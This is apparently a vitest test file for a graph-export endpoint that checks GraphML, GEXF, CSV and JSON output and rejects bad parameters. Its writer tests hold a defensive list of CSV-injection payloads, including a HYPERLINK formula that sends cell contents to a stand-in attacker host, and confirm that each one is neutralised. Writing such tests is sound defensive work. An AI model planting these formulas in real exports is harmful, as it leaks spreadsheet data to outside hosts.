/** /export/subgraph on the seed graph: each format holds what `neighbourhood` answers; bad parameters are refused clearly. */
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { edgesCsv, nodesCsv } from '../../src/export/csv.js';
import { exportFile } from '../../src/export/formats.js';
import { toGexf } from '../../src/export/gexf.js';
import { toGraphml } from '../../src/export/graphml.js';
import type { ExportGraph } from '../../src/export/subgraph.js';
import { client, openGraph, resetWithSeed } from '../support/graph.js';

const db = openGraph();
const { gql, yoga } = client(db.graph);
beforeAll(() => resetWithSeed(db.graph));
afterAll(() => db.close());

const ARGS = {
  id: 'person:sergei-lavrov',
  depth: 2,
  limit: 40,
  relationshipTypes: 'ATTRIBUTED_TO,ABOUT,MENTIONS,HOLDS_ROLE',
  nodeTypes: 'PERSON,COUNTRY,TOPIC,STATEMENT,PLACE',
};
const QUERY = `{ neighbourhood(id: "${ARGS.id}", depth: ${ARGS.depth}, limit: ${ARGS.limit}, relationshipTypes: [${ARGS.relationshipTypes}], nodeTypes: [${ARGS.nodeTypes}]) {
  nodes { id type label distance } edges { id type source target properties } truncated } }`;

const exportUrl = (params: Record<string, string | number>) =>
  `http://yoga/export/subgraph?${new URLSearchParams(Object.entries(params).map(([k, v]) => [k, String(v)]))}`;
const download = (params: Record<string, string | number>) => yoga.fetch(exportUrl(params));

const xml = new XMLParser({
  ignoreAttributes: false,
  attributeNamePrefix: '@',
  isArray: (name) => ['node', 'edge', 'data', 'attvalue', 'key', 'attribute'].includes(name),
});

let expected: { nodes: any[]; edges: any[]; truncated: boolean };
beforeAll(async () => {
  const res = await gql(QUERY);
  expect(res.errors).toBeUndefined();
  expected = res.data.neighbourhood;
  expect(expected.nodes.length).toBeGreaterThan(5);
  expect(expected.edges.length).toBeGreaterThan(5);
});

/** RFC 4180 reader: quoted fields with doubled quotes, commas and line breaks inside. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe('export of a neighbourhood', () => {
  it('GraphML parses as XML with the nodes and edges the neighbourhood field returns', async () => {
    const response = await download({ ...ARGS, format: 'graphml' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/graphml\+xml/);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="claimgraph-person-sergei-lavrov-depth2.graphml"');
    const text = await response.text();
    expect(XMLValidator.validate(text)).toBe(true);
    const doc = xml.parse(text).graphml;
    expect(doc.key.map((k: any) => `${k['@for']}:${k['@attr.name']}`)).toEqual(['node:type', 'node:label', 'node:distance', 'edge:type', 'edge:properties']);
    expect(doc.graph['@edgedefault']).toBe('directed');
    expect(doc.graph.node.map((n: any) => n['@id'])).toEqual(expected.nodes.map((n) => n.id));
    expect(doc.graph.edge).toHaveLength(expected.edges.length);
    const lavrov = doc.graph.node[0].data;
    expect(lavrov.find((d: any) => d['@key'] === 'node_label')['#text']).toBe('Sergei Lavrov');
    const edge = doc.graph.edge[0];
    const props = edge.data.find((d: any) => d['@key'] === 'edge_properties')['#text'];
    expect(JSON.parse(props)).toEqual(expected.edges.find((e) => e.id === edge['@id'])!.properties);
  });

  it('GEXF parses as XML with the same counts', async () => {
    const response = await download({ ...ARGS, format: 'gexf' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/gexf\+xml/);
    expect(response.headers.get('content-disposition')).toMatch(/filename="claimgraph-person-sergei-lavrov-depth2\.gexf"/);
    const text = await response.text();
    expect(XMLValidator.validate(text)).toBe(true);
    const graph = xml.parse(text).gexf.graph;
    expect(graph['@defaultedgetype']).toBe('directed');
    expect(graph.nodes.node).toHaveLength(expected.nodes.length);
    expect(graph.edges.edge).toHaveLength(expected.edges.length);
    expect(graph.nodes.node[0]['@label']).toBe('Sergei Lavrov');
  });

  it('CSV comes as a zip of nodes.csv and edges.csv with a header row and a row per node and edge', async () => {
    const response = await download({ ...ARGS, format: 'csv' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/zip');
    expect(response.headers.get('content-disposition')).toMatch(/filename="claimgraph-person-sergei-lavrov-depth2-csv\.zip"/);
    const files = unzipSync(new Uint8Array(await response.arrayBuffer()));
    expect(Object.keys(files).sort()).toEqual(['edges.csv', 'nodes.csv']);
    const nodes = parseCsv(strFromU8(files['nodes.csv']!));
    const edges = parseCsv(strFromU8(files['edges.csv']!));
    expect(nodes[0]).toEqual(['id', 'type', 'label', 'distance']);
    expect(edges[0]).toEqual(['id', 'type', 'source', 'target', 'properties']);
    expect(nodes.slice(1).map((r) => r[0])).toEqual(expected.nodes.map((n) => n.id));
    expect(nodes.slice(1).map((r) => r[2])).toEqual(expected.nodes.map((n) => n.label));
    expect(edges).toHaveLength(expected.edges.length + 1);
    // Properties are JSON (commas and quotes) and statement labels have commas: both round-trip.
    for (const [id, , , , props] of edges.slice(1)) expect(JSON.parse(props!)).toEqual(expected.edges.find((e) => e.id === id)!.properties);
    expect(nodes.some((r) => r[2]!.includes(','))).toBe(true);
  });

  it('CSV gives one plain file with part=nodes or part=edges', async () => {
    const response = await download({ ...ARGS, format: 'csv', part: 'edges' });
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get('content-disposition')).toMatch(/filename="claimgraph-person-sergei-lavrov-depth2-edges\.csv"/);
    expect(parseCsv(await response.text())).toHaveLength(expected.edges.length + 1);
    const nodes = await download({ ...ARGS, format: 'csv', part: 'nodes' });
    expect(parseCsv(await nodes.text())).toHaveLength(expected.nodes.length + 1);
  });

  it('JSON is the Subgraph the GraphQL field returns', async () => {
    const response = await download({ ...ARGS, format: 'json' });
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
    expect(response.headers.get('content-disposition')).toMatch(/filename="claimgraph-person-sergei-lavrov-depth2\.json"/);
    const body = (await response.json()) as typeof expected;
    expect(body.nodes.map((n) => n.id)).toEqual(expected.nodes.map((n) => n.id));
    expect(body.edges.map((e) => e.id)).toEqual(expected.edges.map((e) => e.id));
    expect(body).toEqual(expected);
  });

  it('says when the limit cut nodes', async () => {
    const response = await download({ id: ARGS.id, limit: 2, format: 'json' });
    expect(response.headers.get('x-claimgraph-truncated')).toBe('true');
    expect(((await response.json()) as any).truncated).toBe(true);
  });
});

describe('bad parameters', () => {
  it.each([
    [{ id: ARGS.id, depth: 9, format: 'json' }, 400, 'depth', /depth must be between 1 and 3/],
    [{ id: ARGS.id, depth: 'two', format: 'json' }, 400, 'depth', /depth must be a whole number between 1 and 3/],
    [{ id: ARGS.id, limit: 5000, format: 'json' }, 400, 'limit', /limit must be between 1 and 2000/],
    [{ id: ARGS.id, format: 'pdf' }, 400, 'format', /format must be one of graphml, gexf, csv, json/],
    [{ id: ARGS.id }, 400, 'format', /format must be one of/],
    [{ id: 'person:nobody', format: 'json' }, 404, 'id', /No node has the id "person:nobody"/],
    [{ id: 'garbage', format: 'json' }, 400, 'id', /id is not a claimgraph id/],
    [{ format: 'json' }, 400, 'id', /id is required/],
    [{ id: ARGS.id, format: 'json', nodeTypes: 'TOPIC,BOGUS' }, 400, 'nodeTypes', /nodeTypes has "BOGUS", not a NodeType/],
    [{ id: ARGS.id, format: 'json', relationshipTypes: 'KNOWS' }, 400, 'relationshipTypes', /relationshipTypes has "KNOWS", not a RelationshipType/],
    [{ id: ARGS.id, format: 'json', part: 'nodes' }, 400, 'part', /part applies only to format=csv/],
    [{ id: ARGS.id, format: 'json', colour: 'red' }, 400, 'colour', /colour is not a parameter/],
  ])('%j → %i naming %s', async (params, status, parameter, message) => {
    const response = await download(params);
    expect(response.status).toBe(status);
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
    const body = (await response.json()) as { error: string; parameter: string };
    expect(body.error).toMatch(message);
    expect(body.parameter).toBe(parameter);
    expect(JSON.stringify(body)).not.toMatch(/\n\s+at /);
  });

  it('refuses a repeated parameter and other methods than GET', async () => {
    const twice = await yoga.fetch(`${exportUrl({ id: ARGS.id, format: 'json', depth: 1 })}&depth=2`);
    expect(twice.status).toBe(400);
    expect(((await twice.json()) as any).error).toBe('depth is given more than once');
    const post = await yoga.fetch(exportUrl({ id: ARGS.id, format: 'json' }), { method: 'POST' });
    expect(post.status).toBe(405);
    expect(post.headers.get('allow')).toBe('GET');
  });
});

describe('writers', () => {
  const hostile = 'a, "b"\nc <d> & \'e\' \u0001 \ud800';
  const graph: ExportGraph = {
    nodes: [
      { id: 'x:1', type: 'PERSON', label: hostile, distance: 0 },
      { id: 'x:"2"&<', type: 'TOPIC', label: '=1+1', distance: null },
    ],
    edges: [{ id: 'e1', type: 'ABOUT', source: 'x:1', target: 'x:"2"&<', properties: { note: hostile, n: 1 } }],
    truncated: false,
  };

  it('CSV quotes a field with a comma, quote or line break, and it reads back unchanged', () => {
    const rows = parseCsv(nodesCsv(graph));
    expect(rows[1]).toEqual(['x:1', 'PERSON', hostile, '0']);
    expect(rows[2]![0]).toBe('x:"2"&<');
    expect(JSON.parse(parseCsv(edgesCsv(graph))[1]![4]!)).toEqual({ note: hostile, n: 1 });
  });

  // OWASP "CSV injection": a spreadsheet runs a cell that starts with one of these as a formula.
  const formulas = ['=1+1', '=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];
  const withFormulas: ExportGraph = {
    nodes: formulas.map((label, i) => ({ id: `x:${i}`, type: 'TOPIC', label, distance: i })),
    edges: [{ id: '=e', type: 'ABOUT', source: 'x:0', target: 'x:1', properties: { note: '=1+1' } }],
    truncated: false,
  };

  it.each(formulas)('CSV neutralises a cell starting %j: a quote in front, the cell quoted, the rest unchanged', (label) => {
    const text = nodesCsv(withFormulas);
    expect(text).toContain(`,"'${label.replace(/"/g, '""')}",`);
    expect(parseCsv(text).find((r) => r[2]!.endsWith(label))![2]).toBe(`'${label}`);
  });

  it('CSV neutralises every column, ids included, and leaves harmless cells and numbers as they are', () => {
    const edges = parseCsv(edgesCsv(withFormulas));
    expect(edges[1]![0]).toBe("'=e");
    expect(parseCsv(nodesCsv(withFormulas))[1]).toEqual(['x:0', 'TOPIC', "'=1+1", '0']);
    expect(parseCsv(nodesCsv(graph))[1]).toEqual(['x:1', 'PERSON', hostile, '0']);
  });

  it('GraphML, GEXF and JSON keep formula-like text exactly', async () => {
    const xml = new XMLParser({
      ignoreAttributes: false,
      attributeNamePrefix: '@',
      trimValues: false,
      parseTagValue: false,
      htmlEntities: true,
      isArray: (name) => ['node', 'data'].includes(name),
    });
    const graphml = xml.parse(toGraphml(withFormulas)).graphml.graph;
    expect(graphml.node.map((n: any) => n.data.find((d: any) => d['@key'] === 'node_label')['#text'])).toEqual(formulas);
    const gexf = xml.parse(toGexf(withFormulas)).gexf.graph;
    expect(gexf.nodes.node.map((n: any) => n['@label'])).toEqual(formulas);
    expect(JSON.parse(exportFile(withFormulas, 'json').body as string)).toEqual(withFormulas);
  });

  it('GraphML and GEXF stay well-formed XML whatever the labels hold', () => {
    for (const text of [toGraphml(graph), toGexf(graph)]) expect(XMLValidator.validate(text)).toBe(true);
    const doc = xml.parse(toGraphml(graph)).graphml.graph;
    expect(doc.node[1]['@id']).toBe('x:"2"&<');
    // Characters XML can't carry at all (a C0 control, a lone surrogate) become U+FFFD.
    expect(doc.node[0].data.find((d: any) => d['@key'] === 'node_label')['#text']).toBe('a, "b"\nc <d> & \'e\' \ufffd \ufffd');
  });
});
